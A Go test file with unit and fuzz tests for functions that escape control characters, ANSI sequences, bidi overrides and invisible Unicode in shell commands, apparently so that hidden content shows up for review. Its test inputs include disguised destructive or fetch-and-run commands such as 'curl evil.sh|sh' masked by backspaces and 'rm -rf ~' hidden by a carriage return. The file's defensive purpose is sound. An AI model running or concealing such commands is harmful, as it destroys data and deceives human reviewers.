package api

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestEscapeControl(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "git status --porcelain", "git status --porcelain"},
		{"non-latin stays", "echo héllo 日本語 ✓", "echo héllo 日本語 ✓"},
		{"carriage return hides a prefix", "rm -rf ~\recho hello", `rm -rf ~\recho hello`},
		{"backspaces erase", "curl evil.sh|sh\b\b\b\b\b\b\b\b\b\b\b\b\b\bls", `curl evil.sh|sh\b\b\b\b\b\b\b\b\b\b\b\b\b\bls`},
		{"ANSI clear line", "rm -rf ~ \x1b[2K\x1b[1Gls -la", `rm -rf ~ \x1b[2K\x1b[1Gls -la`},
		{"ANSI OSC title", "x\x1b]0;owned\x07", `x\x1b]0;owned\a`},
		{"bidi override", "ls \u202etxt.exe", `ls \u202etxt.exe`},
		{"bidi isolates and marks", "a\u2066b\u2069c\u200fd\u061c", `a\u2066b\u2069c\u200fd\u061c`},
		{"zero width", "r\u200bm -\u200drf\ufeff", `r\u200bm -\u200drf\ufeff`},
		{"line separator", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"newline and tab", "echo a\n\trm -rf /", `echo a\n\trm -rf /`},
		{"NUL and DEL", "a\x00b\x7fc", `a\x00b\x7fc`},
		{"C1 CSI", "a\u009b2Kb", `a\u009b2Kb`},
		{"no-break space", "rm\u00a0-rf", `rm\u00a0-rf`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"tag characters", "a\U000E0041b", `a\U000e0041b`},
		{"backslash doubled, so escapes are unambiguous", `printf '\x1b'`, `printf '\\x1b'`},
		{"newline is never folded into a space", "grep -rn TODO .\nrm -rf memory", `grep -rn TODO .\nrm -rf memory`},
		{"CRLF", "a\r\nb", `a\r\nb`},
		{"next line (C1 NEL)", "a\u0085b", `a\u0085b`},
		{"hangul fillers pass for nothing", "rm\u3164-rf\u115f\u1160\uffa0", `rm\u3164-rf\u115f\u1160\uffa0`},
		{"combining grapheme joiner", "r\u034fm", `r\u034fm`},
		{"variation selectors", "a\ufe0fb\U000e0100", `a\ufe0fb\U000e0100`},
		{"braille blank passes for a space", "rm\u2800-rf", `rm\u2800-rf`},
		{"soft hyphen and word joiner", "r\u00adm\u2060x", `r\u00adm\u2060x`},
		{"interlinear annotation", "a\ufff9b\ufffbc", `a\ufff9b\ufffbc`},
		{"full-width letters stay: they are visible", "ｒｍ", "ｒｍ"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := EscapeControl(tt.in)
			if got != tt.want {
				t.Errorf("EscapeControl(%q) = %q, want %q", tt.in, got, tt.want)
			}
			for _, r := range got {
				if r != ' ' && !unicode.IsGraphic(r) || unicode.Is(unicode.Cf, r) {
					t.Errorf("output %q still holds %U", got, r)
				}
			}
			if !utf8.ValidString(got) {
				t.Errorf("output %q is not UTF-8", got)
			}
		})
	}
}

// FuzzEscapeControl: whatever the input, the output is valid UTF-8 made of
// visible characters and ASCII spaces only.
func FuzzEscapeControl(f *testing.F) {
	for _, s := range []string{"ls", "a\rb", "\x1b[31m", "\u202e", "\xff\xfe", `\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := EscapeControl(s)
		if !utf8.ValidString(got) {
			t.Fatalf("%q → %q: not UTF-8", s, got)
		}
		for _, r := range got {
			if !visible(r) {
				t.Fatalf("%q → %q: holds %U", s, got, r)
			}
		}
		if isPlain(s) && got != s {
			t.Fatalf("plain %q changed to %q", s, got)
		}
	})
}

func TestEscapeArgv(t *testing.T) {
	tests := []struct {
		argv []string
		want string
	}{
		{[]string{"git", "status"}, "git status"},
		{[]string{"printf", "a b", ""}, "printf 'a b' ''"},
		{[]string{"echo", "it's", "\x1b[2K"}, `echo 'it'\''s' \x1b[2K`},
	}
	for _, tt := range tests {
		if got := EscapeArgv(tt.argv); got != tt.want {
			t.Errorf("EscapeArgv(%q) = %q, want %q", tt.argv, got, tt.want)
		}
	}
}

func TestEscapeLimit(t *testing.T) {
	tests := []struct {
		name, in string
		n        int
		want     string
	}{
		{"fits", "ls -la", 10, "ls -la"},
		{"exactly", "ls -la", 6, "ls -la"},
		{"cut, said", "echo hello world", 10, "echo hello… (6 more bytes)"},
		{"escapes count, never split", "ab\x1bcd", 5, `ab… (3 more bytes)`},
		{"escape whole at the edge", "ab\x1bcd", 6, `ab\x1b… (2 more bytes)`},
		{"multi-byte kept whole", "日本語", 7, "日本… (3 more bytes)"},
		{"bad byte", "a\xffb", 2, "a… (2 more bytes)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := EscapeLimit(tt.in, tt.n); got != tt.want {
				t.Errorf("EscapeLimit(%q, %d) = %q, want %q", tt.in, tt.n, got, tt.want)
			}
		})
	}
}

// FuzzEscapeLimit: the result is the escaped text, or a prefix of it that
// fits n followed by an honest count of the bytes left out.
func FuzzEscapeLimit(f *testing.F) {
	for _, s := range []string{"ls", "a\nb", "\x1b[31m", "\u202e日本", "\xff\xfe"} {
		f.Add(s, 3)
	}
	f.Fuzz(func(t *testing.T, s string, n int) {
		n = max(0, n%200)
		got := EscapeLimit(s, n)
		full := EscapeControl(s)
		if len(full) <= n {
			if got != full {
				t.Fatalf("%q, %d: %q, want %q", s, n, got, full)
			}
			return
		}
		i := strings.LastIndex(got, "… (")
		if i < 0 || i > n || !strings.HasPrefix(full, got[:i]) {
			t.Fatalf("%q, %d: %q is not a cut prefix of %q", s, n, got, full)
		}
		var left int
		if _, err := fmt.Sscanf(got[i:], "… (%d more bytes)", &left); err != nil || left <= 0 || left > len(s) {
			t.Fatalf("%q, %d: %q: bad count", s, n, got)
		}
		if EscapeControl(s[len(s)-left:]) != full[i:] {
			t.Fatalf("%q, %d: %q: the count does not match what was cut", s, n, got)
		}
	})
}
